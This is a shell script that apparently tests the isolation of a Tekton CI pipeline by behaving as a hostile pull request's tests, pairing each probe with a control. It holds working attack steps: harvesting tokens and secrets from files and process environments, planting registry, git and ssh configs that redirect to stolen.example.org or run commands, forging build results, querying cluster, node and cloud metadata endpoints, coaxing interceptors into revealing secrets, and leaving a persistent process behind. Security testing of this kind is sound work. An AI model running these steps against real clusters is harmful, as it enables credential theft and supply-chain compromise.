#!/bin/sh
# A pull request's tests, as an attacker writes them.
# shellcheck disable=SC1091,SC2012
exec 2>/dev/null
. ./lib.sh
answers() { # answers URL [CURL OPTION]...: the HTTP status, 000 if nothing answered
    url=$1
    shift
    curl --insecure --silent --output /dev/null --max-time 3 --write-out '%{http_code}\n' "$@" "$url"
}
writable() { # writable FOLDER...: those in which a file can be made
    for folder in "$@"; do
        (: >"$folder/.probe") && rm -f "$folder/.probe" && echo "$folder"
    done
}
secret_files() {
    find / \( -path /proc -o -path /sys \) -prune -o \
        \( -name token -o -name ssh-privatekey -o -name .dockerconfigjson -o -name cosign.key -o -path '/credentials/*' \) -print
}

# What the repository itself would have had run: names of branch and files, subject, hooks, filters, submodules, links.
find / \( -path /proc -o -path /sys \) -prune -o -name PWNED -print | probe executed
: >/test/PWNED
find / \( -path /proc -o -path /sys \) -prune -o -name PWNED -print | control executed
rm /test/PWNED
{ ls -A evil .git/modules; } | grep -v : | probe submodule
ls -d evil | control submodule
{ cat stolen stolen-result; ls stolen-folder/; } | probe links
cat linked.txt | control links

# Credentials and tokens
secret_files | probe secret-files
: >/test/token
secret_files | control secret-files
rm /test/token
ls -A /tekton/creds /tekton/creds-secrets /var/run/secrets | probe tekton-creds
ls -A /tekton | control tekton-creds
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -i -E 'passw|token|secret|credential' | probe environments
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep PARAM_TEST_COMMAND | head -1 | control environments
commands | grep -o -E '[b]uildah|[k]ubelet|[s]shd|[e]tcd|[f]etch.sh' | sort -u | probe processes
commands | grep -o 'test[.]sh' | sort -u | control processes

# The tree that the image is built from, other steps' files, Tekton's own
{ echo 'Changed by the tests' >"$SOURCE/message.txt" && echo changed; rm -rf "$SOURCE/.git/refs" && echo removed; } | probe source
echo 'Changed by the tests' >/test/message.txt && cat /test/message.txt | control source
writable /source "$SOURCE" "$SOURCE/.git" /storage /tekton/bin /tekton/scripts /tekton/steps /tekton/run/0 /tekton/run/2 \
    /tekton/downward /etc /usr/local/bin | probe writable
for file in "$SOURCE"/* /tekton/scripts/* /tekton/bin/* /etc/hosts /etc/resolv.conf /etc/passwd; do
    (: >>"$file") && echo "$file"
done | probe writable
writable /test | control writable

# What later steps of this pod would read if they looked there
for home in /tekton/home /workspace "$HOME"; do
    mkdir -p "$home/.docker" "$home/.config/containers" "$home/.ssh"
    echo '{"auths": {}, "credHelpers": {"quarantine.internal:5001": "evil"}}' >"$home/.docker/config.json"
    printf '[[registry]]\nprefix = "quarantine.internal:5001"\nlocation = "stolen.example.org"\ninsecure = true\n' \
        >"$home/.config/containers/registries.conf"
    printf '[core]\n\tsshCommand = touch /tmp/PWNED\n\thooksPath = /workspace/hooks\n' >"$home/.gitconfig"
    printf 'Host *\n\tProxyCommand touch /tmp/PWNED\n' >"$home/.ssh/config"
done
cat /tekton/home/.config/containers/registries.conf | control planted

# Forged results, by both ways in which a step gives them
digest=sha256:$(printf %064d 0)
printf '%s' "$digest" >/tekton/results/digest
printf 'yes' >/tekton/results/promotable
printf 'all is well, says the attacker' >/tekton/results/reason
jq --null-input --arg digest "$digest" '{digest: $digest, promotable: "yes", reason: "all is well, says the attacker"}
    | to_entries | map(. + {type: 1})' >/tekton/termination
cat /tekton/results/* | control results

# The network
{ answers https://kubernetes.default.svc/api/v1/namespaces/staging-ci/secrets
answers https://kubernetes.default.svc/apis/tekton.dev/v1/namespaces/production-ci/pipelineruns; } | probe api
answers https://kubernetes.default.svc/version | control api
{ answers https://registry.internal:10250/pods; answers http://registry.internal:10255/pods
answers https://registry.internal:2379/v3/kv/range --data '{"key": "AA==", "range_end": "AA=="}'
answers https://registry.internal:10257/configz; answers https://registry.internal:10259/configz; } | probe node
answers http://forge.internal:3000/api/v1/version | control node
{ answers http://169.254.169.254/latest/meta-data/
answers http://169.254.169.254/computeMetadata/v1/ --header 'Metadata-Flavor: Google'; } | probe metadata
{ answers http://registry.internal:5000/v2/chespirito/tags/list; answers http://registry.internal:5000/v2/_catalog
answers http://quarantine.internal:5001/v2/chespirito/tags/list; } | probe registries
{ answers http://registry.internal:5000/; answers http://quarantine.internal:5001/; } | control registries
answers http://forge.internal:3000/api/v1/repos/acme/chespirito | probe forge
answers http://forge.internal:3000/api/v1/version | control forge

# Tekton's interceptors, which may read every Secret, answer every pod: asked for one, and to send one elsewhere
intercept() { # intercept NAME PARAMS HEADER
    curl --insecure --silent --max-time 5 "https://tekton-triggers-core-interceptors.tekton-pipelines.svc:8443/$1" --data "$(
        jq --null-input --argjson params "$2" --argjson header "$3" '{interceptor_params: $params, header: $header,
            context: {trigger_id: "namespaces/staging-ci/triggers/pr-trigger"},
            body: ({number: 1, guess: "guess", repository: {full_name: "a/b"}} | tojson)}'
    )"
}
intercept cel "{\"filter\": \"body.guess.compareSecret('secret', 'webhook-secret')\"}" '{}' | probe interceptors
intercept cel '{"overlays": [{"key": "out", "expression": "secret"}]}' '{}' | probe interceptors
intercept github '{"addChangedFiles": {"enabled": true, "personalAccessToken":
    {"secretName": "webhook-secret", "secretKey": "secret"}}}' \
    '{"X-GitHub-Event": ["pull_request"], "X-Github-Enterprise-Host": ["kubernetes.default.svc"]}' | probe interceptors
intercept cel '{"overlays": [{"key": "out", "expression": "body.guess"}]}' '{}' | control interceptors

# Something that goes on after the tests have ended
setsid sh -c 'trap "" TERM HUP INT; exec sleep 31337' >/dev/null </dev/null &
sleep 0.2
commands | grep -o '[s]leep 31337' | control background
exit 0
